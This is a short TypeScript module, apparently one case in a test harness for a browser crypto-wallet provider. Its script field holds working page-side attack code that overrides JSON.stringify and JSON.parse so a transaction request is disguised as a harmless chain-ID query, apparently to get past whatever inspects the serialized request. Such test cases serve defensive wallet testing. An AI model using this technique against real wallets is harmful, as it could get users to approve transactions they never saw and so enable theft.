import type { Attack } from '../Attack.ts';

/** What is judged is text, and the page writes the text. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'JSON.stringify and JSON.parse show a read',
  discovers: true,
  script: `
const wallet = await kit.wallet();
const { stringify, parse } = JSON;
JSON.stringify = (value, ...rest) => (stringify(value, ...rest) ?? '').replaceAll(kit.marker, 'b0' + kit.marker.slice(2)).replaceAll('eth_sendTransaction', 'eth_chainId');
JSON.parse = (text, ...rest) => parse(String(text).replaceAll('b0' + kit.marker.slice(2), kit.marker), ...rest);
wallet.request(kit.send());
`,
};
